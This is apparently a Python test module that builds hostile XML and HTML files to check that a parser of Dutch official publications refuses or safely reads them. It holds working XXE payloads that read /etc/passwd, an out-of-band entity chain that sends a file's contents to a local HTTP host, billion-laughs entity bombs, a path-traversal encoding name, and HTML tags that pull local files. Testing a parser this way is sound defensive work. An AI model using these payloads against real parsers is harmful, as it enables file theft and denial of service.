# SPDX-License-Identifier: GPL-2.0-or-later
"""XML, official or not, and pages: entities, depths, widths, and encodings that lie."""

from cases import READ, REFUSED, case, write

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
MANY = 100_000
TEN_MEGABYTES = 10 << 20


def official(body, before='', named=''):
    return (f'{HEAD}{before}<officiele-publicatie{named}><kamerstuk><stuk><algemeen><vrije-tekst>'
            f'<tekst><al>De wet.</al>{body}</tekst></vrije-tekst></algemeen></stuk></kamerstuk>'
            '</officiele-publicatie>')


def xml(folder, body, before='', named=''):
    write(folder, 'stuk.xml', official(body, before, named))


def page(folder, body, head=''):
    write(folder, 'pagina.html', f'<!DOCTYPE html><html><head><title>Titel</title>{head}</head>'
                                 f'<body><p>De wet.</p>{body}</body></html>')


# ---- Entities ------------------------------------------------------------------------

def entity(name, declaration, used='<al>&e;</al>'):
    def put(folder):
        xml(folder, used, f'<!DOCTYPE x {declaration}>\n')
    put.__name__ = name
    case(REFUSED)(put)


entity('xxe_file', '[<!ENTITY e SYSTEM "file:///etc/passwd">]')
entity('xxe_file_by_path', '[<!ENTITY e SYSTEM "/etc/passwd">]')
entity('xxe_beside_it', '[<!ENTITY e SYSTEM "goed.txt">]')
entity('xxe_http', '[<!ENTITY e SYSTEM "http://127.0.0.1:9/e">]')
entity('xxe_ftp', '[<!ENTITY e SYSTEM "ftp://127.0.0.1:9/e">]')
entity('xxe_public', '[<!ENTITY e PUBLIC "-//x" "http://127.0.0.1:9/e">]')
entity('xxe_parameter', '[<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]', '')
entity('xxe_parameter_http', '[<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]', '')
entity('xxe_out_of_band', '[<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % p "'
       "<!ENTITY e SYSTEM 'http://127.0.0.1:9/%f;'>" '"> %p;]')
entity('xxe_unparsed',
       '[<!NOTATION n SYSTEM "/bin/sh"><!ENTITY e SYSTEM "/etc/passwd" NDATA n>]', '')
entity('xxe_php', '[<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=x">]')
entity('billion_laughs', '[<!ENTITY a "ha">' + ''.join(
    f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) +
    ']', '<al>&j;</al>')
entity('quadratic_blowup', f'[<!ENTITY e "{"a" * 50_000}">]', f'<al>{"&e;" * 20_000}</al>')
entity('entities_in_a_circle', '[<!ENTITY e "&f;"><!ENTITY f "&e;">]')
entity('parameter_entities_in_a_circle', '[<!ENTITY % p "&#37;q;"><!ENTITY % q "&#37;p;"> %p;]', '')
entity('entities_in_attributes', '[<!ENTITY e "aaaaaaaaaa">]', f'<al id="{"&e;" * 1000}"/>')


@case(READ)
def attribute_that_every_element_gets(folder):
    xml(folder, '<al/>' * 50_000, f'<!DOCTYPE x [<!ATTLIST al a CDATA "{"a" * 50_000}">]>')


@case(READ)
def dtd_elsewhere(folder):
    """It is named, and nobody looks."""
    xml(folder, '', '<!DOCTYPE officiele-publicatie SYSTEM "http://127.0.0.1:9/op.dtd">\n')


@case(READ)
def included_and_styled_from_elsewhere(folder):
    xml(folder, '<xi:include href="file:///etc/passwd" parse="text"/>',
        '<?xml-stylesheet type="text/xsl" href="file:///etc/passwd"?>\n',
        ' xmlns:xi="http://www.w3.org/2001/XInclude" xsi:schemaLocation="x http://127.0.0.1:9/x"'
        ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"')


@case(REFUSED)
def entity_of_nobody(folder):
    xml(folder, '<al>&nergens;</al>')


# ---- Deep and wide -------------------------------------------------------------------

@case(REFUSED)
def xml_that_nests_deep(folder):
    xml(folder, '<al>' * MANY + '</al>' * MANY)


@case(REFUSED)
def xml_that_never_closes(folder):
    write(folder, 'stuk.xml', official('')[:-40] + '<al>' * 200)


@case(REFUSED)
def xml_of_100_000_attributes(folder):
    xml(folder, f'<al {" ".join(f"a{i}=" + chr(34) * 2 for i in range(MANY))}>tekst</al>')


@case(REFUSED)
def xml_of_100_000_namespaces(folder):
    xml(folder, f'<al {" ".join(f"xmlns:a{i}=" + chr(34) + "u" + chr(34) for i in range(MANY))}/>')


@case(REFUSED)
def xml_attribute_of_ten_megabytes(folder):
    xml(folder, f'<al id="{"a" * TEN_MEGABYTES}">tekst</al>')


@case(REFUSED)
def xml_name_of_ten_megabytes(folder):
    xml(folder, f'<{"a" * TEN_MEGABYTES}/>')


@case(REFUSED)
def xml_of_millions_of_elements(folder):
    xml(folder, '<al/>' * 5_000_000)


@case(READ)
def xml_of_100_000_paragraphs(folder):
    xml(folder, '<al>tekst</al>' * MANY)


@case(REFUSED)
def xml_paragraph_of_twenty_megabytes(folder):
    xml(folder, f'<al>{"woord " * (20 << 20 >> 2)}</al>')


@case(READ)
def xml_of_remarks(folder):
    xml(folder, '<!--a-->' * MANY + '<?a b?>' * MANY + '<al><![CDATA[' + ']' * MANY + ']]></al>')


@case(READ)
def xml_table_without_bounds(folder):
    entry = ('<entry colname="c2000000000" namest="c1" nameend="c2000000000" '
             'morerows="2000000000"><al>a</al></entry>')
    xml(folder, '<table><tgroup cols="2000000000"><colspec colnum="2000000000" colname="c1"/>'
                f'<tbody>{"<row>" + entry * 5 + "</row>"}</tbody></tgroup></table>')


# ---- Encodings -----------------------------------------------------------------------

@case(REFUSED)
def xml_with_nul(folder):
    xml(folder, '<al>a\0b</al>')


@case(REFUSED)
def xml_that_says_utf_16_and_is_not(folder):
    write(folder, 'stuk.xml', official('').replace('UTF-8', 'UTF-16'))


@case(REFUSED)
def xml_in_encodings_nobody_needs(folder):
    for name in ('UTF-7', 'EBCDIC-CP-NL', 'x' * 5000, '../../etc/passwd'):
        write(folder, f'stuk{len(name)}.xml', official('+ADw-al+AD4-').replace('UTF-8', name))


@case(REFUSED)
def xml_of_bytes_that_are_no_utf_8(folder):
    write(folder, 'stuk.xml',
          official('<al>%</al>').encode().replace(b'%', b'\xc0\x80\xff\xed\xa0\x80'))


# ---- Pages ---------------------------------------------------------------------------

@case(REFUSED)
def page_that_nests_deep(folder):
    page(folder, '<div>' * MANY + 'x')


@case(REFUSED)
def page_of_tables_in_tables(folder):
    page(folder, '<table><tr><td>' * 5000 + 'x')


@case(READ)
def page_of_misnested_letters(folder):
    page(folder, '<p>' + '<b><i><a><u>' * 40 + 'x' + '</b></a></i></u>' * 40)


@case(REFUSED)
def page_of_100_000_attributes(folder):
    page(folder, f'<p {" ".join(f"a{i}" for i in range(MANY))}>x</p>')


@case(READ)
def page_attribute_of_ten_megabytes(folder):
    page(folder, f'<p title="{"a" * (9 << 20)}">x</p>')


@case(READ)
def page_of_100_000_paragraphs(folder):
    page(folder, '<p>tekst' * MANY)


@case(READ)
def page_of_cells_without_bounds(folder):
    page(folder, '<table><tr><td colspan="2000000000" rowspan="2000000000">a</td>'
                 '<td colspan="-1">b</td></tr></table><ol start="2147483647" type="I">'
                 '<li value="99999999999">x</li></ol>')


@case(READ)
def page_that_wants_things_from_elsewhere(folder):
    page(folder, '<iframe src="file:///etc/passwd"></iframe><img src="http://127.0.0.1:9/a">'
                 '<object data="/etc/passwd"></object><script src="http://127.0.0.1:9/a"></script>'
                 '<embed src="/etc/passwd"><link rel="import" href="/etc/passwd">',
         '<base href="file:///etc/"><meta http-equiv="refresh" content="0;url=file:///etc/passwd">'
         '<style>@import "http://127.0.0.1:9/a";</style>')


@case(READ)
def page_with_characters_that_are_none(folder):
    numbers = (0, 27, 155, 55296, 65535, 1114112, 10 ** 12)
    page(folder, ''.join(f'&#{number};' for number in numbers) +
         '&#x202e;&#x1b;[2J&lt;script&gt;&nergens;&' + '#' * 1000)


@case(READ)
def page_whose_encoding_lies(folder):
    for name in ('utf-16', 'utf-7', 'x-user-defined', 'iso-2022-jp'):
        head = f'<html><head><meta charset="{name}"><title>T</title></head>'
        write(folder, f'{name}.html',
              f'{head}<body><p>ge\xefnformeerd</p></body></html>'.encode())


@case(REFUSED)
def page_that_is_cut_off(folder):
    for i, body in enumerate(('<html><body><p>a<', '<html><body><p>a<p title="', '<html><!--',
                              '<html><body><script>', '<html><body><p>a&#', '<html><plaintext>a')):
        write(folder, f'pagina{i}.html', body)
